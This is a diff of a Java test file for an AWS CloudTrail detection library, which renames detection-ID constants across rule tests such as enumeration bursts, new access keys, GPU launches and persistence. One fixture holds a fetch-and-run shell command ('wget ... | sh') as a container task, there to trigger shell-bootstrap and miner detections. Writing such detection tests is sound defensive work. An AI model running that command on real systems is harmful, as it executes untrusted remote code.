@@ -2,7 +2,6 @@ package io.trailsentry.detect.rules;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import io.trailsentry.detect.Detections;
 import io.trailsentry.detect.RulePolicy;
 import io.trailsentry.detect.Severity;
 import io.trailsentry.detect.Signal;
@@ -55,7 +54,7 @@ class RulesTest {
                 .singleElement()
                 .satisfies(
                         s -> {
-                            assertThat(s.detectionId).isEqualTo(Detections.NEW_PRINCIPAL.id);
+                            assertThat(s.detectionId).isEqualTo(NewPrincipal.DETECTION.id);
                             assertThat(s.routine).isTrue();
                             assertThat(s.counted()).isFalse();
                         });
@@ -70,7 +69,7 @@ class RulesTest {
                         Events.event("sts", "GetCallerIdentity", ATTACK)
                                 .readOnly()
                                 .from("203.0.113.77", "Boto3/1.28"));
-        assertThat(ids(out)).containsExactly(Detections.NEW_SOURCE.id);
+        assertThat(ids(out)).containsExactly(NewSource.DETECTION.id);
         assertThat(out.get(0).summary).contains("203.0.113.0/24", "usual: 198.51.100.0/24");
         assertThat(
                         ids(
@@ -101,7 +100,7 @@ class RulesTest {
                                 observe(
                                         Events.event("athena", "GetQueryResults", ATTACK)
                                                 .key("AKIANEWKEY"))))
-                .containsExactly(Detections.NEW_ACCESS_KEY.id);
+                .containsExactly(NewAccessKey.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
@@ -133,7 +132,7 @@ class RulesTest {
                                     Events.event(calls[i][0], calls[i][1], ATTACK + i * 5_000L)
                                             .readOnly())));
         }
-        assertThat(fired).containsExactly(Detections.ENUMERATION_BURST.id);
+        assertThat(fired).containsExactly(EnumerationBurst.DETECTION.id);
     }
 
     @Test
@@ -163,7 +162,7 @@ class RulesTest {
                 .singleElement()
                 .satisfies(
                         s -> {
-                            assertThat(s.detectionId).isEqualTo(Detections.ENUMERATION_BURST.id);
+                            assertThat(s.detectionId).isEqualTo(EnumerationBurst.DETECTION.id);
                             assertThat(s.counted()).isFalse();
                         });
     }
@@ -207,7 +206,7 @@ class RulesTest {
                                         Events.event("servicequotas", "GetServiceQuota", ATTACK)
                                                 .readOnly()
                                                 .quota("L-DB2E81BA"))))
-                .containsExactly(Detections.QUOTA_RECON.id);
+                .containsExactly(QuotaRecon.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
@@ -228,7 +227,7 @@ class RulesTest {
                 .singleElement()
                 .satisfies(
                         s -> {
-                            assertThat(s.detectionId).isEqualTo(Detections.DRYRUN_PROBE.id);
+                            assertThat(s.detectionId).isEqualTo(DryRunProbe.DETECTION.id);
                             assertThat(s.routine).isFalse();
                         });
         List<Signal> nextDay =
@@ -255,7 +254,7 @@ class RulesTest {
                         observe(
                                 Events.event("s3", "ListObjects", ATTACK + 200_000L)
                                         .error("AccessDenied"))));
-        assertThat(fired).containsExactly(Detections.ACCESS_DENIED_BURST.id);
+        assertThat(fired).containsExactly(AccessDeniedBurst.DETECTION.id);
     }
 
     @Test
@@ -268,9 +267,9 @@ class RulesTest {
                                 .instances("i-1", "i-2"));
         assertThat(ids(gpu))
                 .contains(
-                        Detections.GPU_COMPUTE.id,
-                        Detections.LARGE_COUNT.id,
-                        Detections.CREATED.id);
+                        GpuCompute.DETECTION.id,
+                        LargeCount.DETECTION.id,
+                        CreatedResources.DETECTION.id);
         assertThat(gpu.get(0).severity).isEqualTo(Severity.MEDIUM.id);
         assertThat(
                         ids(
@@ -279,7 +278,7 @@ class RulesTest {
                                                 .types("m5.large")
                                                 .count(2)
                                                 .instances("i-3"))))
-                .containsExactly(Detections.CREATED.id);
+                .containsExactly(CreatedResources.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
@@ -298,7 +297,7 @@ class RulesTest {
                                 .types("m5.large"));
         Signal asg =
                 plain.stream()
-                        .filter(s -> s.detectionId.equals(Detections.LARGE_AUTOSCALING_GROUP.id))
+                        .filter(s -> s.detectionId.equals(LargeAutoScalingGroup.DETECTION.id))
                         .findFirst()
                         .orElseThrow();
         assertThat(asg.severity).isEqualTo(Severity.LOW.id);
@@ -311,15 +310,15 @@ class RulesTest {
                                 .region("sa-east-1"));
         assertThat(ids(farGpu))
                 .contains(
-                        Detections.GPU_COMPUTE.id,
-                        Detections.LARGE_AUTOSCALING_GROUP.id,
-                        Detections.NEW_REGION_COMPUTE.id);
+                        GpuCompute.DETECTION.id,
+                        LargeAutoScalingGroup.DETECTION.id,
+                        NewRegionCompute.DETECTION.id);
         assertThat(
                         farGpu.stream()
                                 .filter(
                                         s ->
                                                 s.detectionId.equals(
-                                                        Detections.LARGE_AUTOSCALING_GROUP.id))
+                                                        LargeAutoScalingGroup.DETECTION.id))
                                 .findFirst()
                                 .orElseThrow()
                                 .severity)
@@ -332,7 +331,7 @@ class RulesTest {
                                                         "CreateAutoScalingGroup",
                                                         ATTACK)
                                                 .asg("small", 1, 2, 19))))
-                .doesNotContain(Detections.LARGE_AUTOSCALING_GROUP.id);
+                .doesNotContain(LargeAutoScalingGroup.DETECTION.id);
     }
 
     @Test
@@ -347,7 +346,7 @@ class RulesTest {
                                 .asg("web2", 20, 20, 40)
                                 .types("m5.large"));
         assertThat(tomorrow)
-                .filteredOn(s -> s.detectionId.equals(Detections.LARGE_AUTOSCALING_GROUP.id))
+                .filteredOn(s -> s.detectionId.equals(LargeAutoScalingGroup.DETECTION.id))
                 .singleElement()
                 .satisfies(s -> assertThat(s.counted()).isFalse());
     }
@@ -362,14 +361,14 @@ class RulesTest {
                                         Events.event("ec2", "RunInstances", ATTACK)
                                                 .types("m5.large")
                                                 .region("us-east-1"))))
-                .contains(Detections.NEW_REGION_COMPUTE.id);
+                .contains(NewRegionCompute.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
                                         Events.event("ec2", "RunInstances", ATTACK)
                                                 .types("m5.large")
                                                 .region("eu-west-1"))))
-                .doesNotContain(Detections.NEW_REGION_COMPUTE.id);
+                .doesNotContain(NewRegionCompute.DETECTION.id);
     }
 
     @Test
@@ -382,10 +381,10 @@ class RulesTest {
                                         "sh -c wget -qO- http://h/i.sh | sh"));
         assertThat(ids(miner))
                 .contains(
-                        Detections.MINER_MARKERS.id,
-                        Detections.SHELL_BOOTSTRAP.id,
-                        Detections.UNAPPROVED_IMAGE.id,
-                        Detections.CREATED.id);
+                        MinerMarkers.DETECTION.id,
+                        ShellBootstrap.DETECTION.id,
+                        UnapprovedImage.DETECTION.id,
+                        CreatedResources.DETECTION.id);
         assertThat(miner.get(0).severity).isEqualTo(Severity.HIGH.id);
         assertThat(
                         ids(
@@ -395,7 +394,7 @@ class RulesTest {
                                                         Events.ACCOUNT
                                                                 + ".dkr.ecr.us-east-1.amazonaws.com/web:1",
                                                         null))))
-                .containsExactly(Detections.CREATED.id);
+                .containsExactly(CreatedResources.DETECTION.id);
         policy.approvedRegistries = new String[] {"public.ecr.aws/acme/"};
         rules = new Rules(policy.build(), BaselinePolicy.defaults());
         assertThat(
@@ -405,7 +404,7 @@ class RulesTest {
                                                 .task(
                                                         "public.ecr.aws/acme/agent:2",
                                                         "sh -c echo ok"))))
-                .containsExactly(Detections.CREATED.id);
+                .containsExactly(CreatedResources.DETECTION.id);
     }
 
     @Test
@@ -416,7 +415,7 @@ class RulesTest {
                                         Events.event("ec2", "ModifyInstanceAttribute", ATTACK)
                                                 .protect(true)
                                                 .instances("i-9"))))
-                .containsExactly(Detections.TERMINATION_PROTECTION.id);
+                .containsExactly(TerminationProtection.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
@@ -429,7 +428,7 @@ class RulesTest {
                                 observe(
                                         Events.event("autoscaling", "SetInstanceProtection", ATTACK)
                                                 .scaleIn("asg-1"))))
-                .containsExactly(Detections.SCALE_IN_PROTECTION.id);
+                .containsExactly(ScaleInProtection.DETECTION.id);
         assertThat(
                         observe(
                                 Events.event("iam", "AttachRolePolicy", ATTACK)
@@ -447,13 +446,13 @@ class RulesTest {
                                 observe(
                                         Events.event("iam", "CreateAccessKey", ATTACK)
                                                 .newKey("u", "AKIACREATED"))))
-                .containsExactly(Detections.IAM_USER_PERSISTENCE.id, Detections.CREATED.id);
+                .containsExactly(IamUserPersistence.DETECTION.id, CreatedResources.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
                                         Events.event("lambda", "CreateFunctionUrlConfig", ATTACK)
                                                 .url("f", "NONE"))))
-                .containsExactly(Detections.PUBLIC_FUNCTION.id);
+                .containsExactly(PublicFunction.DETECTION.id);
         assertThat(
                         ids(
                                 observe(
@@ -478,7 +477,7 @@ class RulesTest {
                 .singleElement()
                 .satisfies(
                         s -> {
-                            assertThat(s.detectionId).isEqualTo(Detections.CREATED.id);
+                            assertThat(s.detectionId).isEqualTo(CreatedResources.DETECTION.id);
                             assertThat(s.resourceType).isEqualTo("ecs-cluster");
                             assertThat(s.resources).containsExactly("c1");
                             assertThat(s.counted()).isFalse();
@@ -494,7 +493,7 @@ class RulesTest {
                                 .asg(hostile, 20, 20, 40));
         Signal asg =
                 out.stream()
-                        .filter(s -> s.detectionId.equals(Detections.LARGE_AUTOSCALING_GROUP.id))
+                        .filter(s -> s.detectionId.equals(LargeAutoScalingGroup.DETECTION.id))
                         .findFirst()
                         .orElseThrow();
         assertThat(asg.summary.length()).isLessThanOrEqualTo(Signal.MAX_SUMMARY);
@@ -527,9 +526,9 @@ class RulesTest {
                                 observe(
                                         Events.event("iam", "SimulatePrincipalPolicy", ATTACK)
                                                 .error("AccessDenied"))))
-                .contains(Detections.POLICY_SIMULATION.id);
+                .contains(PolicySimulation.DETECTION.id);
         assertThat(ids(observe(Events.event("iam", "GetUser", ATTACK + 1_000).readOnly())))
-                .doesNotContain(Detections.POLICY_SIMULATION.id);
+                .doesNotContain(PolicySimulation.DETECTION.id);
         // a policy tool that simulates every day: routine, not counted
         profile = new Profile();
         List<Signal> last = null;
@@ -537,7 +536,7 @@ class RulesTest {
             last = observe(Events.event("iam", "SimulateCustomPolicy", T0 - (3 - d) * DAY));
         }
         assertThat(last)
-                .filteredOn(sig -> sig.detectionId.equals(Detections.POLICY_SIMULATION.id))
+                .filteredOn(sig -> sig.detectionId.equals(PolicySimulation.DETECTION.id))
                 .singleElement()
                 .satisfies(sig -> assertThat(sig.counted()).isFalse());
     }
